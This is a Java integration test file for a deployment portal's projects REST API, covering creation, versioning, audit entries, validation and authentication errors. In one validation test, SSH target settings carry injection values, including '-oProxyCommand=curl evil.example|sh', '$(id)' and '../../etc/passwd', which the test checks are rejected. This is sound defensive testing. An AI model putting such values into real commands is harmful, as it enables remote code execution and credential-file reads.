package dev.capstan.it.projects;

import dev.capstan.access.entity.GlobalRole;
import dev.capstan.it.support.Json;
import dev.capstan.it.support.PortalClient;
import dev.capstan.it.support.PortalTest;
import dev.capstan.it.support.TestDatabase;
import jakarta.json.JsonObject;
import org.junit.jupiter.api.Test;

import java.net.URI;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;

import static dev.capstan.it.support.Json.errorFields;
import static dev.capstan.it.support.Json.object;
import static dev.capstan.it.support.Json.problem;
import static dev.capstan.it.support.Json.strings;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The REST API as a client uses it: build a project with services, environments and members,
 * read it back, change it with the version read (and be refused with a stale one), get every
 * problem as application/problem+json, and find each change in the audit trail with its
 * before and after.
 */
class ProjectsApiIT extends PortalTest {

    private static final String PROJECTS = "/api/v1/projects";

    @Test
    void aUserBuildsAProjectAndReadsItBack() throws Exception {
        PortalClient owner = signedIn("api-owner", GlobalRole.USER);
        TestDatabase.createUser("api-colleague", "api-colleague-password", GlobalRole.USER);

        HttpResponse<String> created = owner.call("POST", PROJECTS, """
                {"key": "api-shop", "name": "Shop", "description": "The web shop", "owningTeam": "Payments"}""");
        assertEquals(201, created.statusCode(), created.body());
        assertEquals(base.toString() + "api/v1/projects/api-shop", PortalClient.location(created));
        JsonObject project = object(created);
        assertEquals("maintainer", project.getString("standing"), "the creator becomes its first maintainer");
        assertTrue(project.getBoolean("maintainable"));

        HttpResponse<String> service = owner.call("POST", PROJECTS + "/api-shop/services", """
                {"name": "web", "kind": "application", "image": "ghcr.io/acme/shop", "deployOrder": 20, "essential": true,
                 "liveness": {"url": "/health/live", "status": 200, "expectations": ["status == \\"UP\\""]},
                 "smokeChecks": [{"method": "get", "path": "/", "status": 200, "bodyContains": "Shop"}]}""");
        assertEquals(201, service.statusCode(), service.body());
        assertTrue(PortalClient.location(service).endsWith("/api/v1/projects/api-shop/services/web"));

        HttpResponse<String> environment = owner.call("POST", PROJECTS + "/api-shop/environments", """
                {"name": "production", "tier": "production", "baseUrl": "https://shop.example.com",
                 "target": {"kind": "ssh-host", "settings": {"host": "shop-1.example.com", "user": "deploy", "directory": "/srv/shop"}},
                 "overrides": [{"service": "web", "livenessUrl": "/live"}]}""");
        assertEquals(201, environment.statusCode(), environment.body());
        assertTrue(PortalClient.location(environment).endsWith("/api/v1/projects/api-shop/environments/production"));

        HttpResponse<String> member = owner.call("POST", PROJECTS + "/api-shop/members", """
                {"username": "api-colleague", "role": "deployer", "productionDeploys": true}""");
        assertEquals(201, member.statusCode(), member.body());
        assertTrue(PortalClient.location(member).endsWith("/api/v1/projects/api-shop/members/api-colleague"));

        JsonObject read = object(owner.call("GET", PROJECTS + "/api-shop", null));
        assertEquals("Shop", read.getString("name"));
        assertEquals("Payments", read.getString("owningTeam"));
        assertFalse(read.getBoolean("archived"));
        assertTrue(read.containsKey("version"), read.toString());
        assertEquals(project.getString("createdAt"), read.getString("createdAt"), "the create's answer shows the time a read shows");

        JsonObject web = read.getJsonArray("services").getJsonObject(0);
        assertEquals(web, object(owner.call("GET", PROJECTS + "/api-shop/services/web", null)), "one service reads the same");
        assertEquals("application", web.getString("kind"));
        assertTrue(web.getBoolean("essential"));
        assertEquals(20, web.getInt("deployOrder"));
        assertEquals("/health/live", web.getJsonObject("liveness").getString("url"));
        assertEquals(List.of("status == \"UP\""), strings(web.getJsonObject("liveness"), "expectations"));
        JsonObject smokeCheck = web.getJsonArray("smokeChecks").getJsonObject(0);
        assertEquals("GET", smokeCheck.getString("method"));
        assertEquals("Shop", smokeCheck.getString("bodyContains"));

        JsonObject production = read.getJsonArray("environments").getJsonObject(0);
        assertEquals(production, object(owner.call("GET", PROJECTS + "/api-shop/environments/production", null)));
        assertEquals("production", production.getString("tier"));
        assertEquals("ssh-host", production.getJsonObject("target").getString("kind"));
        assertEquals("shop-1.example.com", production.getJsonObject("target").getJsonObject("settings").getString("host"));
        assertEquals("/live", production.getJsonArray("overrides").getJsonObject(0).getString("livenessUrl"));

        List<JsonObject> members = read.getJsonArray("members").getValuesAs(JsonObject.class);
        assertEquals(List.of("api-colleague deployer true", "api-owner maintainer true"), members.stream()
                .map(m -> m.getString("username") + " " + m.getString("role") + " " + m.getBoolean("productionDeploys")).toList());
        assertEquals(members.get(0), object(owner.call("GET", PROJECTS + "/api-shop/members/api-colleague", null)));

        JsonObject page = object(owner.call("GET", PROJECTS + "?q=SHOP&sort=name&order=desc&limit=10", null));
        assertEquals(1, page.getInt("total"));
        assertEquals(10, page.getInt("limit"));
        JsonObject summary = page.getJsonArray("items").getJsonObject(0);
        assertEquals("api-shop", summary.getString("key"));
        assertEquals(1, summary.getInt("services"));
        assertEquals("maintainer", summary.getString("standing"));

        assertEquals("{\"after\":\"Shop\",\"before\":null}",
                changes("project.created", "api-shop", "api-shop").getJsonObject("name").toString());
        assertEquals("ghcr.io/acme/shop", changes("service.created", "api-shop", "web").getJsonObject("image").getString("after"));
        assertEquals("ssh-host {directory=/srv/shop, host=shop-1.example.com, user=deploy}",
                changes("environment.created", "api-shop", "production").getJsonObject("target").getString("after"));
        assertEquals("deployer", changes("member.added", "api-shop", "api-colleague").getJsonObject("role").getString("after"));
    }

    @Test
    void aChangeWithTheVersionReadIsSavedAndAStaleOneOverwritesNothing() throws Exception {
        PortalClient owner = signedIn("api-editor", GlobalRole.USER);
        create(owner, "api-versions");
        long version = object(owner.call("GET", PROJECTS + "/api-versions", null)).getJsonNumber("version").longValue();

        HttpResponse<String> saved = owner.call("PUT", PROJECTS + "/api-versions", """
                {"name": "Renamed", "owningTeam": "Platform", "version": %d}""".formatted(version));
        assertEquals(200, saved.statusCode(), saved.body());
        assertEquals("Renamed", object(saved).getString("name"));
        assertTrue(object(saved).getJsonNumber("version").longValue() > version, "a change moves the version on");

        JsonObject stale = problem(owner.call("PUT", PROJECTS + "/api-versions", """
                {"name": "Overwritten", "version": %d}""".formatted(version)), 409);
        assertTrue(stale.getString("detail").contains("changed by someone else"), stale.toString());
        assertEquals("Renamed", object(owner.call("GET", PROJECTS + "/api-versions", null)).getString("name"), "nothing overwritten");
        JsonObject renamed = changes("project.updated", "api-versions", "api-versions");
        assertEquals("{\"after\":\"Renamed\",\"before\":\"api-versions project\"}", renamed.getJsonObject("name").toString());
        assertEquals("{\"after\":\"Platform\",\"before\":null}", renamed.getJsonObject("owningTeam").toString());

        owner.call("POST", PROJECTS + "/api-versions/services", """
                {"name": "api", "image": "ghcr.io/acme/api"}""");
        long serviceVersion = object(owner.call("GET", PROJECTS + "/api-versions/services/api", null)).getJsonNumber("version").longValue();
        HttpResponse<String> redefined = owner.call("PUT", PROJECTS + "/api-versions/services/api", """
                {"image": "ghcr.io/acme/api-v2", "kind": "worker", "version": %d}""".formatted(serviceVersion));
        assertEquals(200, redefined.statusCode(), redefined.body());
        assertEquals("worker", object(redefined).getString("kind"), "a change may leave out the name the address gives");
        problem(owner.call("PUT", PROJECTS + "/api-versions/services/api", """
                {"image": "ghcr.io/acme/stale", "version": %d}""".formatted(serviceVersion)), 409);
        assertEquals("ghcr.io/acme/api-v2", object(owner.call("GET", PROJECTS + "/api-versions/services/api", null)).getString("image"));
        assertEquals("{\"after\":\"ghcr.io/acme/api-v2\",\"before\":\"ghcr.io/acme/api\"}",
                changes("service.updated", "api-versions", "api").getJsonObject("image").toString());

        owner.call("POST", PROJECTS + "/api-versions/environments", """
                {"name": "staging", "tier": "staging"}""");
        long environmentVersion = object(owner.call("GET", PROJECTS + "/api-versions/environments/staging", null))
                .getJsonNumber("version").longValue();
        assertEquals(200, owner.call("PUT", PROJECTS + "/api-versions/environments/staging", """
                {"tier": "staging", "baseUrl": "https://staging.example.com", "version": %d}""".formatted(environmentVersion)).statusCode());
        problem(owner.call("PUT", PROJECTS + "/api-versions/environments/staging", """
                {"tier": "development", "version": %d}""".formatted(environmentVersion)), 409);
        assertEquals("staging", object(owner.call("GET", PROJECTS + "/api-versions/environments/staging", null)).getString("tier"));
        assertEquals("https://staging.example.com",
                changes("environment.updated", "api-versions", "staging").getJsonObject("baseUrl").getString("after"));

        TestDatabase.createUser("api-helper", "api-helper-password", GlobalRole.USER);
        owner.call("POST", PROJECTS + "/api-versions/members", """
                {"username": "api-helper", "role": "viewer"}""");
        long memberVersion = object(owner.call("GET", PROJECTS + "/api-versions/members/api-helper", null))
                .getJsonNumber("version").longValue();
        assertEquals(200, owner.call("PUT", PROJECTS + "/api-versions/members/api-helper", """
                {"role": "maintainer", "version": %d}""".formatted(memberVersion)).statusCode());
        problem(owner.call("PUT", PROJECTS + "/api-versions/members/api-helper", """
                {"role": "viewer", "version": %d}""".formatted(memberVersion)), 409);
        assertEquals("maintainer", object(owner.call("GET", PROJECTS + "/api-versions/members/api-helper", null)).getString("role"));
        assertEquals("{\"after\":\"maintainer\",\"before\":\"viewer\"}",
                changes("member.changed", "api-versions", "api-helper").getJsonObject("role").toString());

        problem(owner.call("PUT", PROJECTS + "/api-versions", """
                {"name": "No version"}"""), 400);
    }

    @Test
    void removingAndArchivingAreAuditedWithWhatWasThere() throws Exception {
        PortalClient owner = signedIn("api-remover", GlobalRole.USER);
        TestDatabase.createUser("api-leaver", "api-leaver-password", GlobalRole.USER);
        create(owner, "api-removals");
        owner.call("POST", PROJECTS + "/api-removals/services", """
                {"name": "cache", "kind": "cache", "image": "redis"}""");
        owner.call("POST", PROJECTS + "/api-removals/environments", """
                {"name": "development", "tier": "development"}""");
        owner.call("POST", PROJECTS + "/api-removals/members", """
                {"username": "api-leaver", "role": "viewer"}""");

        assertEquals(204, owner.call("DELETE", PROJECTS + "/api-removals/services/cache", null).statusCode());
        assertEquals(204, owner.call("DELETE", PROJECTS + "/api-removals/environments/development", null).statusCode());
        assertEquals(204, owner.call("DELETE", PROJECTS + "/api-removals/members/api-leaver", null).statusCode());
        problem(owner.call("GET", PROJECTS + "/api-removals/services/cache", null), 404);
        problem(owner.call("GET", PROJECTS + "/api-removals/environments/development", null), 404);
        problem(owner.call("GET", PROJECTS + "/api-removals/members/api-leaver", null), 404);
        assertEquals("{\"after\":null,\"before\":\"redis\"}",
                changes("service.removed", "api-removals", "cache").getJsonObject("image").toString());
        assertEquals("{\"after\":null,\"before\":\"development\"}",
                changes("environment.removed", "api-removals", "development").getJsonObject("tier").toString());
        assertEquals("{\"after\":null,\"before\":\"viewer\"}",
                changes("member.removed", "api-removals", "api-leaver").getJsonObject("role").toString());

        assertEquals(204, owner.call("POST", PROJECTS + "/api-removals/archive", null).statusCode());
        assertTrue(object(owner.call("GET", PROJECTS + "/api-removals", null)).getBoolean("archived"));
        assertEquals(0, object(owner.call("GET", PROJECTS + "?q=api-removals", null)).getInt("total"), "archived projects are left out");
        assertEquals(1, object(owner.call("GET", PROJECTS + "?q=api-removals&archived=true", null)).getInt("total"));
        JsonObject refused = problem(owner.call("POST", PROJECTS + "/api-removals/services", """
                {"name": "late", "image": "late"}"""), 400);
        assertTrue(refused.getString("detail").contains("archived"), refused.toString());
        assertEquals("{\"after\":true,\"before\":false}",
                changes("project.archived", "api-removals", "api-removals").getJsonObject("archived").toString());
        assertEquals(204, owner.call("POST", PROJECTS + "/api-removals/unarchive", null).statusCode());
        assertEquals("{\"after\":false,\"before\":true}",
                changes("project.unarchived", "api-removals", "api-removals").getJsonObject("archived").toString());
    }

    @Test
    void refusedChangesAreFoundUnderTheirProjectNamingWhatTheyWereMadeTo() throws Exception {
        PortalClient owner = signedIn("api-refused", GlobalRole.USER);
        create(owner, "api-refusals");
        owner.call("POST", PROJECTS + "/api-refusals/services", """
                {"name": "web", "image": "nginx"}""");
        long stale = object(owner.call("GET", PROJECTS + "/api-refusals/services/web", null)).getJsonNumber("version").longValue();
        assertEquals(200, owner.call("PUT", PROJECTS + "/api-refusals/services/web", """
                {"image": "nginx:2", "version": %d}""".formatted(stale)).statusCode());

        problem(owner.call("PUT", PROJECTS + "/api-refusals/services/web", """
                {"image": "nginx:3", "version": %d}""".formatted(stale)), 409);
        problem(owner.call("POST", PROJECTS + "/api-refusals/environments", """
                {"name": "staging", "tier": "live"}"""), 400);
        problem(owner.call("DELETE", PROJECTS + "/api-refusals/members/api-refused", null), 400);
        String file = owner.call("GET", PROJECTS + "/api-refusals/export", null).body().replace("nginx:2", "nginx:4");
        problem(owner.call("POST", PROJECTS + "/import?plan=not-the-plan-shown", file, "application/yaml"), 409);

        PortalClient auditor = signedIn("api-refusals-auditor", GlobalRole.AUDITOR);
        HttpResponse<String> export = auditor.submit("/audit/index.xhtml", "log", Map.of("project", "api-refusals"), "exportJsonl");
        assertEquals(200, export.statusCode());
        List<String> refusals = export.body().lines().filter(line -> line.contains("\"type\":\"entry\""))
                .map(Json::object).filter(entry -> entry.getString("outcome").equals("FAILED"))
                .map(entry -> entry.getString("action") + " " + entry.getString("targetType") + " " + entry.getString("targetName")
                        + " in " + entry.getString("project") + (entry.isNull("environment") ? "" : "/" + entry.getString("environment")))
                .toList();
        assertEquals(List.of("service.updated service web in api-refusals",
                "environment.created environment staging in api-refusals/staging",
                "member.removed user api-refused in api-refusals",
                "project.imported project api-refusals in api-refusals"), refusals,
                "each refusal is filed under its project, naming the service, environment or member");
    }

    @Test
    void reorderedSmokeChecksAreAChangeInTheAuditTrailAsInTheDryRun() throws Exception {
        PortalClient owner = signedIn("api-reorderer", GlobalRole.USER);
        create(owner, "api-order");
        assertEquals(201, owner.call("POST", PROJECTS + "/api-order/services", """
                {"name": "web", "image": "nginx", "smokeChecks": [{"path": "/first"}, {"path": "/second"}]}""").statusCode());

        String reorderedFile = owner.call("GET", PROJECTS + "/api-order/export", null).body()
                .replace("/first", "/swap").replace("/second", "/first").replace("/swap", "/second");
        List<JsonObject> planned = object(owner.call("POST", PROJECTS + "/import", reorderedFile, "application/yaml"))
                .getJsonArray("changes").getValuesAs(JsonObject.class);
        assertEquals(1, planned.size(), planned.toString());
        JsonObject shown = planned.get(0).getJsonObject("fields").getJsonObject("smokeChecks");

        long version = object(owner.call("GET", PROJECTS + "/api-order/services/web", null)).getJsonNumber("version").longValue();
        HttpResponse<String> reordered = owner.call("PUT", PROJECTS + "/api-order/services/web", """
                {"image": "nginx", "smokeChecks": [{"path": "/second"}, {"path": "/first"}], "version": %d}""".formatted(version));
        assertEquals(200, reordered.statusCode(), reordered.body());
        assertEquals(List.of("/second", "/first"), object(reordered).getJsonArray("smokeChecks").getValuesAs(JsonObject.class)
                .stream().map(check -> check.getString("path")).toList(), "saved in the new order");

        JsonObject audited = changes("service.updated", "api-order", "web").getJsonObject("smokeChecks");
        assertEquals(List.of("GET /first -> 200", "GET /second -> 200"), strings(audited, "before"));
        assertEquals(List.of("GET /second -> 200", "GET /first -> 200"), strings(audited, "after"));
        assertEquals(audited.getJsonArray("before"), shown.getJsonArray("before"), "the dry run shows it as the audit trail records it");
        assertEquals(audited.getJsonArray("after"), shown.getJsonArray("after"));
    }

    @Test
    void invalidInputIsA400ProblemListingEachField() throws Exception {
        PortalClient owner = signedIn("api-sloppy", GlobalRole.USER);
        JsonObject project = problem(owner.call("POST", PROJECTS, """
                {"key": "Not A Key", "name": " ", "owningTeam": "%s"}""".formatted("t".repeat(201))), 400);
        assertEquals(List.of("key", "name", "owningTeam"), errorFields(project));
        project.getJsonArray("errors").getValuesAs(JsonObject.class)
                .forEach(error -> assertFalse(error.getString("message").isBlank(), error.toString()));

        create(owner, "api-checked");
        JsonObject service = problem(owner.call("POST", PROJECTS + "/api-checked/services", """
                {"name": "Web App", "kind": "mainframe", "deployOrder": 10000,
                 "liveness": {"url": "not a url", "status": 99, "expectations": ["status is ready"]},
                 "smokeChecks": [{"method": "GET", "path": "/"}, {"method": "FETCH", "path": ""}]}"""), 400);
        assertEquals(List.of("name", "kind", "image", "deployOrder", "liveness.url", "liveness.status", "liveness.expectations",
                "smokeChecks[1].method", "smokeChecks[1].path"), errorFields(service));

        JsonObject environment = problem(owner.call("POST", PROJECTS + "/api-checked/environments", """
                {"name": "prod", "tier": "live", "baseUrl": "ftp://example.com",
                 "target": {"kind": "ssh-host", "settings": {"user": "deploy", "directory": "/srv", "port": "twenty-two", "colour": "red"}},
                 "overrides": [{"service": "nope"}]}"""), 400);
        assertEquals(List.of("tier", "baseUrl", "target.settings.host", "target.settings.port", "target.settings.colour",
                "overrides[0].service"), errorFields(environment));

        JsonObject injected = problem(owner.call("POST", PROJECTS + "/api-checked/environments", """
                {"name": "staging", "tier": "staging",
                 "target": {"kind": "ssh-host", "settings": {"host": "-oProxyCommand=curl evil.example|sh", "user": "-oProxyCommand=sh",
                            "directory": "/srv/$(id)", "composeFile": "../../etc/passwd"}}}"""), 400);
        assertEquals(List.of("target.settings.host", "target.settings.user", "target.settings.directory", "target.settings.composeFile"),
                errorFields(injected), "nothing a deployment runs can be read as an option or as shell syntax");
        assertEquals(404, owner.call("GET", PROJECTS + "/api-checked/environments/staging", null).statusCode(), "nothing half-written");

        JsonObject member = problem(owner.call("POST", PROJECTS + "/api-checked/members", """
                {"username": "nobody-by-that-name", "role": "viewer"}"""), 400);
        assertEquals(List.of("username"), errorFields(member), "a rule naming one field lists that field");
        assertEquals(List.of("role"), errorFields(problem(owner.call("POST", PROJECTS + "/api-checked/members", """
                {"username": "api-sloppy", "role": "boss"}"""), 400)));

        JsonObject duplicate = problem(owner.call("POST", PROJECTS, """
                {"key": "api-checked", "name": "Again"}"""), 400);
        assertEquals(List.of("key"), errorFields(duplicate));
        assertTrue(duplicate.getString("detail").contains("exists already"), duplicate.toString());

        assertEquals(List.of("sort", "limit"), errorFields(problem(owner.call("GET", PROJECTS + "?limit=0&sort=colour", null), 400)));

        // A parameter the call does not take is named, with the ones it does, rather than ignored.
        JsonObject unknown = problem(owner.call("GET", PROJECTS + "?size=50", null), 400);
        assertEquals(List.of("size"), errorFields(unknown));
        assertEquals("This call takes no query parameter size; it takes q, archived, sort, order, offset, limit.", unknown.getString("detail"));
        assertEquals(List.of("dryRun"), errorFields(problem(owner.call("GET", PROJECTS + "/api-checked?dryRun=true", null), 400)));
    }

    @Test
    void unreadableRequestsAndUnknownAddressesAreProblemsToo() throws Exception {
        PortalClient owner = signedIn("api-clumsy", GlobalRole.USER);
        JsonObject missing = problem(owner.call("GET", PROJECTS + "/no-such-project", null), 404);
        assertEquals("There is no project no-such-project that you can see.", missing.getString("detail"));
        assertFalse(missing.containsKey("errors"));

        JsonObject malformed = problem(owner.call("POST", PROJECTS, "{\"key\": \"api-broken\", "), 400);
        assertTrue(malformed.getString("detail").contains("not valid JSON"), malformed.toString());
        create(owner, "api-typed");
        JsonObject wrongType = problem(owner.call("POST", PROJECTS + "/api-typed/services", """
                {"name": "web", "image": "web", "deployOrder": "first"}"""), 400);
        assertEquals("Expected a whole number here, not text.", wrongType.getString("detail"));
        assertEquals(List.of("deployOrder"), errorFields(wrongType), "the field is named");
        JsonObject noBody = problem(owner.call("POST", PROJECTS, ""), 400);
        assertTrue(noBody.getString("detail").contains("JSON body"), noBody.toString());
        problem(owner.call("GET", "/api/v1/nothing-here", null), 404);
        problem(owner.call("DELETE", PROJECTS, null), 405);
        problem(owner.call("POST", PROJECTS, null), 415); // no Content-Type at all
        assertEquals(0, object(owner.call("GET", PROJECTS + "?q=api-broken", null)).getInt("total"));
    }

    @Test
    void anonymousCallsAre401ProblemsNotRedirectsToTheSignInPage() throws Exception {
        PortalClient anonymous = new PortalClient(URI.create(base.toString()));
        JsonObject unauthorized = problem(anonymous.call("GET", PROJECTS, null), 401);
        assertTrue(unauthorized.getString("detail").contains("Sign in"), unauthorized.toString());
        problem(anonymous.call("POST", PROJECTS, "{\"key\": \"api-anonymous\", \"name\": \"Anonymous\"}"), 401);
        problem(anonymous.call("GET", PROJECTS + "/api-anonymous", null), 401);

        assertEquals(200, signedIn("api-signed-in", GlobalRole.AUDITOR).call("GET", PROJECTS, null).statusCode());
    }

    @Test
    void aUserWhoMustChangeTheirPasswordIsToldToFirst() throws Exception {
        TestDatabase.createUser("api-newcomer", "api-newcomer-password", true, GlobalRole.USER);
        PortalClient newcomer = new PortalClient(URI.create(base.toString()));
        newcomer.signIn("api-newcomer", "api-newcomer-password");
        JsonObject forbidden = problem(newcomer.call("GET", PROJECTS, null), 403);
        assertTrue(forbidden.getString("detail").contains("Change your password first"), forbidden.toString());
    }

    @Test
    void aSignedInUserWithoutARoleIsRefusedByTheBoundariesAndTheRefusalIsRecorded() throws Exception {
        TestDatabase.createUser("api-roleless", "api-roleless-password");
        PortalClient roleless = new PortalClient(URI.create(base.toString()));
        roleless.signIn("api-roleless", "api-roleless-password");
        JsonObject refused = problem(roleless.call("GET", PROJECTS + "?q=anything", null), 403);
        assertEquals("You are not allowed to do that.", refused.getString("detail"));
        try (Connection db = TestDatabase.connectToChain();
             PreparedStatement query = db.prepareStatement("SELECT outcome, target_type FROM audit_entry"
                     + " WHERE action = 'access.denied' AND actor_name = 'api-roleless' AND target_name = 'GET /api/v1/projects'")) {
            try (ResultSet row = query.executeQuery()) {
                assertTrue(row.next(), "the refusal is in the audit trail");
                assertEquals("DENIED", row.getString("outcome"));
                assertEquals("api", row.getString("target_type"));
            }
        }
    }

    private static void create(PortalClient client, String key) throws Exception {
        HttpResponse<String> created = client.call("POST", PROJECTS, """
                {"key": "%s", "name": "%s project"}""".formatted(key, key));
        assertEquals(201, created.statusCode(), created.body());
    }

    /** The {@code changes} (field → before/after) of the newest successful entry with this action on this target. */
    static JsonObject changes(String action, String project, String targetName) throws SQLException {
        try (Connection db = TestDatabase.connectToChain();
             PreparedStatement query = db.prepareStatement("SELECT details FROM audit_entry WHERE action = ? AND project = ?"
                     + " AND target_name = ? AND outcome = 'SUCCEEDED' ORDER BY sequence DESC LIMIT 1")) {
            query.setString(1, action);
            query.setString(2, project);
            query.setString(3, targetName);
            try (ResultSet row = query.executeQuery()) {
                assertTrue(row.next(), "an entry " + action + " for " + targetName + " in " + project);
                return object(row.getString(1)).getJsonObject("changes");
            }
        }
    }
}
